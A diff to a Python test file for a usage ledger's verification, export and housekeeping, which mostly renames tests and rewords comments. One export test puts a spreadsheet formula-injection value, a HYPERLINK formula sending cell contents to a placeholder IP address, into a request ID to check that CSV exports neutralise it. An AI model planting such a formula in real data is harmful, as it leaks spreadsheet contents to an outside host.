@@ -1,4 +1,4 @@
-"""Proof, export and housekeeping of the ledger, on both databases: sound books pass, each kind of damage is found."""
+"""Verification, export and housekeeping of the ledger, on both databases; each fault is found."""
 
 from __future__ import annotations
 
@@ -63,7 +63,7 @@ async def busy_life(customer: CustomerData) -> None:
     assert soon.state == again.state == "active"
 
 
-async def test_sound_books_pass(customer: CustomerData) -> None:
+async def test_a_valid_ledger_passes(customer: CustomerData) -> None:
     await busy_life(customer)
     assert await customer.count() > 8
     assert await prove(customer) == []
@@ -82,7 +82,7 @@ DAMAGE = {
 
 
 @pytest.mark.parametrize("kind", DAMAGE)
-async def test_damage_is_found_and_named(customer: CustomerData, engine: AsyncEngine, kind: str) -> None:
+async def test_each_fault_is_found_with_its_kind(customer: CustomerData, engine: AsyncEngine, kind: str) -> None:
     await busy_life(customer)
     statement = DAMAGE[kind]
     if kind == "validity":
@@ -94,7 +94,7 @@ async def test_damage_is_found_and_named(customer: CustomerData, engine: AsyncEn
     assert kind in {finding.kind for finding in await prove(customer)}
 
 
-async def test_drawing_on_a_later_pack_first_is_found(customer: CustomerData) -> None:
+async def test_use_of_a_later_pack_first_is_found(customer: CustomerData) -> None:
     first, second = await customer.grant(5), await customer.grant(5)
     await customer.ledger().settle(customer.call(2))
     async with customer.engine.begin() as connection:
@@ -104,7 +104,7 @@ async def test_drawing_on_a_later_pack_first_is_found(customer: CustomerData) ->
     assert [(finding.kind, first in finding.what) for finding in await prove(customer)] == [("order", True)]
 
 
-async def test_lines_of_no_meter_are_found_on_whatever_day(customer: CustomerData) -> None:
+async def test_entries_without_a_meter_are_found_on_any_day(customer: CustomerData) -> None:
     await customer.grant(50)
     for age in (400, 3, 3, 0):
         call = customer.call(1, call_id=old_id(START.date() - timedelta(days=age)))
@@ -114,7 +114,7 @@ async def test_lines_of_no_meter_are_found_on_whatever_day(customer: CustomerDat
     assert any(finding.what == "3 lines belong to no meter" for finding in await prove(customer))
 
 
-async def test_a_proof_may_be_of_one_capability_and_end_early(customer: CustomerData) -> None:
+async def test_verification_may_cover_one_capability_and_stop_early(customer: CustomerData) -> None:
     await busy_life(customer)
     async with customer.engine.begin() as connection:
         await connection.execute(text("UPDATE usage_record SET line = line + 5 WHERE capability = 'general'"))
@@ -124,16 +124,16 @@ async def test_a_proof_may_be_of_one_capability_and_end_early(customer: Customer
         assert len(await ledger_reader.verify_database(session, max_findings=3)) == 3
 
 
-async def test_a_proof_tells_how_far_it_is(customer: CustomerData, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_verification_reports_its_progress(customer: CustomerData, monkeypatch: pytest.MonkeyPatch) -> None:
     await busy_life(customer)
     monkeypatch.setattr(ledger_reader, "PROGRESS_EVERY_LINES", 4)
-    told: list[int] = []
+    reported: list[int] = []
     async with work.snapshot_session(customer.engine) as session:
-        assert await ledger_reader.verify_database(session, on_progress=told.append) == []
-    assert told == list(range(4, await customer.count() + 1, 4)) != []
+        assert await ledger_reader.verify_database(session, on_progress=reported.append) == []
+    assert reported == list(range(4, await customer.count() + 1, 4)) != []
 
 
-def test_lines_of_the_database_are_verified_without_holding_them() -> None:
+def test_memory_of_verification_does_not_grow_with_the_entries() -> None:
     meter, count = MeterFact("a", "licence", 40_000, 0), 40_000
     held = []
     for unique in (True, False):
@@ -148,7 +148,7 @@ def test_lines_of_the_database_are_verified_without_holding_them() -> None:
     assert held[0] < 20_000 < 1_000_000 < held[1]  # bytes
 
 
-async def test_a_meter_that_forgot_is_found(customer: CustomerData) -> None:
+async def test_a_meter_with_a_wrong_seq_is_found(customer: CustomerData) -> None:
     await customer.grant(5)
     await customer.ledger().settle(customer.call())
     async with customer.engine.begin() as connection:
@@ -156,7 +156,7 @@ async def test_a_meter_that_forgot_is_found(customer: CustomerData) -> None:
     assert [finding.kind for finding in await prove(customer)] == ["sequence"]
 
 
-async def test_an_export_proves_itself(customer: CustomerData, tmp_path: Path) -> None:
+async def test_an_export_can_be_verified(customer: CustomerData, tmp_path: Path) -> None:
     await busy_life(customer)
     path = tmp_path / "ledger.jsonl"
     async with work.snapshot_session(customer.engine) as session:
@@ -170,7 +170,7 @@ async def test_an_export_proves_itself(customer: CustomerData, tmp_path: Path) -
     assert {"duplicate", "tiling", "units"} <= {finding.kind for finding in ledger_reader.verify_file(path)}
 
 
-async def test_an_export_of_a_period_is_held_against_itself_alone(customer: CustomerData, tmp_path: Path) -> None:
+async def test_an_export_of_a_period_is_checked_within_the_period(customer: CustomerData, tmp_path: Path) -> None:
     await busy_life(customer)
     path = tmp_path / "ledger.jsonl"
     async with work.snapshot_session(customer.engine) as session:
@@ -189,7 +189,7 @@ async def test_an_export_as_csv(customer: CustomerData) -> None:
     assert rows[0].startswith("call_id,line,seq,settled_at") and len(rows) == count + 1
 
 
-async def test_a_clients_request_id_is_no_formula_in_an_export(customer: CustomerData) -> None:
+async def test_a_request_id_is_never_a_formula_in_an_export(customer: CustomerData) -> None:
     await customer.grant(5)
     sent = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
     await customer.ledger().settle(replace(customer.call(1), request_id=sent))
@@ -202,7 +202,7 @@ async def test_a_clients_request_id_is_no_formula_in_an_export(customer: Custome
 
 
 @pytest.mark.parametrize("content", ["", "{}", "not json", '{"kind": "ledger"}\n{"kind": "pack"}'])
-def test_a_file_that_is_no_export_is_refused(tmp_path: Path, content: str) -> None:
+def test_a_file_other_than_an_export_is_refused(tmp_path: Path, content: str) -> None:
     path = tmp_path / "file"
     path.write_text(content)
     with pytest.raises(Misuse):
@@ -214,7 +214,7 @@ def old_id(day: date) -> str:
     return ids.first_id_of_day(day)[:14] + ids.new()[14:]
 
 
-async def test_retention_drops_lines_and_keeps_the_proof(customer: CustomerData) -> None:
+async def test_a_ledger_is_valid_after_retention(customer: CustomerData) -> None:
     today = START.date()
     await customer.grant(20)
     ledger = customer.ledger()
@@ -239,13 +239,13 @@ async def test_a_round_of_housekeeping(customer: CustomerData) -> None:
     reported: list[ReconciliationState] = []
     keeper = housekeeping.Housekeeper(customer.engine, Ledger(retention_days=30), reported.append, clock=customer.clock)
     assert (await keeper.run_round()).drift == 0
-    assert (await keeper.run_round()).drift == 0  # again: nothing to do
+    assert (await keeper.run_round()).drift == 0  # second round: nothing to do
     assert [(each.drift, each.backlog) for each in reported] == [(0, 0), (0, 0)]
     assert (await customer.count(), await prove(customer)) == (1, [])
     if customer.engine.dialect.name == "postgresql":
         query = f"SELECT count(*) FROM {housekeeping.partition(today + timedelta(days=1))}"
         async with customer.engine.connect() as connection:
-            assert await connection.scalar(text(query)) == 1  # it had waited in the default partition
+            assert await connection.scalar(text(query)) == 1  # moved from the default partition
             assert await connection.scalar(text("SELECT count(*) FROM usage_record_default")) == 0
 
 
@@ -254,7 +254,7 @@ async def test_housekeeping_does_not_wait_for_a_long_read(customer: CustomerData
     await customer.grant(5)
     customer.clock.pass_(days=3000)  # days that have no partition yet
     async with work.snapshot_session(customer.engine) as session:
-        await ledger_reader.verify_database(session)  # the snapshot goes on, and with it its locks
+        await ledger_reader.verify_database(session)  # the snapshot stays open and keeps its locks
         async with asyncio.timeout(10):
             assert (await keeper.run_round()).drift == 0
             await customer.ledger().settle(customer.call(0))
